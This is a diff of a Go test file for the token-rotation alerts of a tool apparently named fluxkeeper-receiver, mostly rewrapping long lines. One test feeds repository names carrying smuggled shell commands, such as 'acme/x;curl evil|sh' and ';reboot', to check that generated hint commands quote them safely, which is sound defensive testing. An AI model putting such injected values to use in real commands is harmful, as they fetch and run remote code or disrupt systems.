@@ -70,7 +70,8 @@ func TestAlertsOfAnEnd(t *testing.T) {
 	end := time.Date(2026, 12, 31, 9, 0, 0, 0, time.UTC)
 	rotations := rotation.Join([]rotation.Record{
 		{Step: rotation.Started, Time: end.AddDate(0, 0, -90), Repositories: []string{"acme/fleet"}, New: "NEW", Expires: end},
-		{Step: rotation.Stored, Time: end.AddDate(0, 0, -90), Repositories: []string{"acme/fleet"}, New: "NEW", Expires: end, Places: []rotation.Place{escP, secretP}},
+		{Step: rotation.Stored, Time: end.AddDate(0, 0, -90), Repositories: []string{"acme/fleet"}, New: "NEW", Expires: end,
+			Places: []rotation.Place{escP, secretP}},
 	})
 	type seen struct {
 		Rule     string
@@ -107,7 +108,8 @@ func TestAlertsOfAnEnd(t *testing.T) {
 }
 
 func step(s rotation.Step, hours int, repo, old, fresh string) rotation.Record {
-	return rotation.Record{Step: s, Time: began.Add(time.Duration(hours) * time.Hour), Repositories: strings.Fields(repo), Old: old, New: fresh, Expires: began.AddDate(0, 0, 90)}
+	return rotation.Record{Step: s, Time: began.Add(time.Duration(hours) * time.Hour), Repositories: strings.Fields(repo), Old: old,
+		New: fresh, Expires: began.AddDate(0, 0, 90)}
 }
 
 // TestCommandsOfHints: a hint's command can be typed, wherever the token is, and
@@ -118,7 +120,8 @@ func TestCommandsOfHints(t *testing.T) {
 	r.Repositories = []string{"acme/x;curl evil|sh", "--help", "it's"}
 	found := rotation.Alerts(rotation.Join([]rotation.Record{r}), began.AddDate(0, 0, 80), "")
 	for _, want := range []string{
-		"`fluxkeeper-receiver rotate finish --repo 'acme/x;curl evil|sh' --esc acme/flux/prod --esc-path 'git[\"hub.token\"]' --cluster-secret 'flux-system/tok;reboot'`",
+		"`fluxkeeper-receiver rotate finish --repo 'acme/x;curl evil|sh' --esc acme/flux/prod --esc-path 'git[\"hub.token\"]' " +
+			"--cluster-secret 'flux-system/tok;reboot'`",
 		`rotate start --repo 'acme/x;curl evil|sh' --repo '--help' --repo 'it'\''s' --esc`,
 	} {
 		if !slices.ContainsFunc(found, func(a rotation.Alert) bool { return strings.Contains(a.Hint, want) }) {
@@ -145,24 +148,34 @@ func TestAlerts(t *testing.T) {
 		"seen dead": {[]rotation.Record{step(rotation.Stored, 0, "acme/fleet", "A", "B")}, 24, "A", nil},
 		"another is dead": {[]rotation.Record{step(rotation.Stored, 0, "acme/fleet", "A", "B")}, 24, "X",
 			[]string{"rotation/overdue B"}},
-		"no old one is known":        {[]rotation.Record{step(rotation.Stored, 0, "acme/fleet", "", "B")}, 24, "", nil},
-		"finished":                   {[]rotation.Record{step(rotation.Stored, 0, "acme/fleet", "A", "B"), step(rotation.Finished, 3, "acme/fleet", "A", "B")}, 24, "", nil},
-		"the old one's own end came": {[]rotation.Record{short(step(rotation.Stored, 0, "acme/fleet", "", "A")), step(rotation.Stored, 1, "acme/fleet", "A", "B")}, 40, "", nil},
-		"it has none since":          {[]rotation.Record{short(step(rotation.Stored, 0, "acme/fleet", "", "A"))}, 31 + 30*24, "", nil},
+		"no old one is known": {[]rotation.Record{step(rotation.Stored, 0, "acme/fleet", "", "B")}, 24, "", nil},
+		"finished": {[]rotation.Record{step(rotation.Stored, 0, "acme/fleet", "A", "B"),
+			step(rotation.Finished, 3, "acme/fleet", "A", "B")}, 24, "", nil},
+		"the old one's own end came": {[]rotation.Record{short(step(rotation.Stored, 0, "acme/fleet", "", "A")),
+			step(rotation.Stored, 1, "acme/fleet", "A", "B")}, 40, "", nil},
+		"it has none since": {[]rotation.Record{short(step(rotation.Stored, 0, "acme/fleet", "", "A"))}, 31 + 30*24, "", nil},
 		"it had one lately": {[]rotation.Record{short(step(rotation.Stored, 0, "acme/fleet", "", "A"))}, 29 + 30*24, "",
 			[]string{"token/expired A"}},
-		"before that": {[]rotation.Record{short(step(rotation.Stored, 0, "acme/fleet", "", "A")), step(rotation.Stored, 1, "acme/fleet", "A", "B")}, 29, "",
+		"before that": {[]rotation.Record{short(step(rotation.Stored, 0, "acme/fleet", "", "A")),
+			step(rotation.Stored, 1, "acme/fleet", "A", "B")}, 29, "",
 			[]string{"rotation/overdue B"}},
-		"an earlier one was never finished": {[]rotation.Record{step(rotation.Stored, 0, "acme/fleet", "A", "B"), step(rotation.Stored, 30, "acme/fleet", "B", "C"), step(rotation.Finished, 40, "acme/fleet", "B", "C")}, 60, "",
+		"an earlier one was never finished": {[]rotation.Record{step(rotation.Stored, 0, "acme/fleet", "A", "B"),
+			step(rotation.Stored, 30, "acme/fleet", "B", "C"), step(rotation.Finished, 40, "acme/fleet", "B", "C")}, 60, "",
 			[]string{"rotation/overdue B"}},
-		"begun and given up for another": {[]rotation.Record{step(rotation.Started, 0, "acme/fleet", "A", "B"), step(rotation.Started, 1, "Acme/Fleet", "A", "C"), step(rotation.Stored, 1, "Acme/Fleet", "A", "C"), step(rotation.Finished, 2, "Acme/Fleet", "A", "C")}, 60, "", nil},
-		"begun after the last": {[]rotation.Record{step(rotation.Stored, 0, "acme/fleet", "", "B"), step(rotation.Started, 1, "acme/fleet", "B", "C")}, 2, "",
+		"begun and given up for another": {[]rotation.Record{step(rotation.Started, 0, "acme/fleet", "A", "B"),
+			step(rotation.Started, 1, "Acme/Fleet", "A", "C"), step(rotation.Stored, 1, "Acme/Fleet", "A", "C"),
+			step(rotation.Finished, 2, "Acme/Fleet", "A", "C")}, 60, "", nil},
+		"begun after the last": {[]rotation.Record{step(rotation.Stored, 0, "acme/fleet", "", "B"),
+			step(rotation.Started, 1, "acme/fleet", "B", "C")}, 2, "",
 			[]string{"rotation/unstored C"}},
 		"begun, and over": {[]rotation.Record{short(step(rotation.Started, 0, "acme/fleet", "", "B"))}, 31, "", nil},
-		"one of two repositories has another since": {[]rotation.Record{short(step(rotation.Stored, 0, "acme/a acme/b", "", "B")), step(rotation.Stored, 1, "acme/a", "", "C")}, 31, "",
+		"one of two repositories has another since": {[]rotation.Record{short(step(rotation.Stored, 0, "acme/a acme/b", "", "B")),
+			step(rotation.Stored, 1, "acme/a", "", "C")}, 31, "",
 			[]string{"token/expired B"}},
-		"both have another since": {[]rotation.Record{short(step(rotation.Stored, 0, "acme/a acme/b", "", "B")), step(rotation.Stored, 1, "acme/a", "", "C"), step(rotation.Stored, 1, "acme/b", "", "D")}, 31, "", nil},
-		"stored last counts":      {[]rotation.Record{step(rotation.Started, 0, "acme/a", "", "B"), short(step(rotation.Stored, 1, "acme/a", "", "C")), step(rotation.Stored, 2, "acme/a", "", "B")}, 31, "", nil},
+		"both have another since": {[]rotation.Record{short(step(rotation.Stored, 0, "acme/a acme/b", "", "B")),
+			step(rotation.Stored, 1, "acme/a", "", "C"), step(rotation.Stored, 1, "acme/b", "", "D")}, 31, "", nil},
+		"stored last counts": {[]rotation.Record{step(rotation.Started, 0, "acme/a", "", "B"),
+			short(step(rotation.Stored, 1, "acme/a", "", "C")), step(rotation.Stored, 2, "acme/a", "", "B")}, 31, "", nil},
 	} {
 		var got []string
 		for _, a := range rotation.Alerts(rotation.Join(c.records), began.Add(time.Duration(c.hours)*time.Hour), c.dead) {
@@ -172,7 +185,8 @@ func TestAlerts(t *testing.T) {
 			t.Errorf("%s:\n%s", name, diff)
 		}
 	}
-	live := rotation.Live(rotation.Join([]rotation.Record{step(rotation.Stored, 0, "acme/a acme/b", "", "B"), step(rotation.Stored, 1, "acme/a", "", "C")}))
+	live := rotation.Live(rotation.Join([]rotation.Record{step(rotation.Stored, 0, "acme/a acme/b", "", "B"),
+		step(rotation.Stored, 1, "acme/a", "", "C")}))
 	if len(live) != 2 || live[0].New != "C" || strings.Join(live[1].Repositories, " ") != "acme/b" {
 		t.Errorf("%+v", live)
 	}
